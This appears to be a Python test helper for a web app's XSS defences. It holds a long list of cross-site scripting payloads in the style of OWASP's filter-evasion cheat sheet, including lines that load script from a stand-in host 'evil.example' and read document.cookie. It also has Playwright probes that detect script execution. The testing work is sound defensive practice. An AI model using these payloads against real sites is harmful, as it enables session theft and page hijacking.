"""Texts that run as script where somebody takes them for markup or follows them as an address."""

from playwright.async_api import Locator

# In the manner of OWASP's cheat sheet: https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/XSS SRC='/x.js'></script>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "</script><script>alert(1)</script>",
    "<script>\nalert(1)\n</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert('XSS')>",
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<IMG LOWSRC='javascript:alert(1)'>",
    "<img src=`x` onerror=`alert(1)`>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND='javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<IFRAME SRC=# onmouseover='alert(document.cookie)'></IFRAME>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<EMBED SRC='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'></EMBED>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<INPUT TYPE='IMAGE' SRC='javascript:alert(1);'>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<STYLE>li {list-style-image: url('javascript:alert(1)');}</STYLE>",
    "<div style='background-image: url(javascript:alert(1))'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg'>",
    "<base href='javascript:alert(1);//'>",
    "<table background='javascript:alert(1)'>",
    "<a href=javascript:alert(1)>click</a>",
    '<a href="jav\tascript:alert(1)">click</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a onmouseover=alert(document.cookie)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\u0000script:alert(1)",
    "javascript://www.example.com/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://example.com/"onmouseover=alert(1)//',
    "https://example.com/'><script>alert(1)</script>",
    "https://example.com/?q=<svg/onload=alert(1)>",
    "mailto:a@example.com?body=<script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<!--?lit$1$--><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "'-alert(1)-'",
    '";alert(1);//',
    "\\';alert(1);//",
)

ALARM = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt"]) window[name] = (...given) => window.ran.push(name);
document.addEventListener("securitypolicyviolation", (event) => window.ran.push(event.violatedDirective));
"""

# Whatever could hold script: elements beside those that the page's own templates make, handlers, and odd addresses.
_PROBE = """log => [...log.querySelectorAll("*")].filter(one =>
  !one.matches("a, bdi, button, div, i, li, ol, p, path, span, svg, time, ul")
  || one.getAttributeNames().some(name => name.startsWith("on") || name === "style")
  || (one.tagName === "A" && !/^(https?|mailto):/.test(one.href))).map(one => one.outerHTML)"""


async def suspects(log: Locator) -> list[str]:
    """What stands in the log and should not."""
    found: list[str] = await log.evaluate(_PROBE)
    return found
